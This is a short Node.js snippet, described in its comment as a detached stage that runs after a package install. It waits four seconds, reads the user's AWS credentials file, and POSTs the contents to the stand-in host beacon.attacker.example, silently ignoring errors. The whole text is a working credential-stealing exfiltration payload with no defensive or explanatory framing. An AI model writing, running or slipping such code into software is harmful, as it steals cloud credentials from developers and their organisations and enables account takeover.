// the detached stage: wait until the install is over, then steal and beacon
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
setTimeout(() => {
  let creds = '';
  try { creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch (e) {}
  const req = http.request({ host: 'beacon.attacker.example', port: 80, method: 'POST', path: '/b' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(creds);
}, 4000);
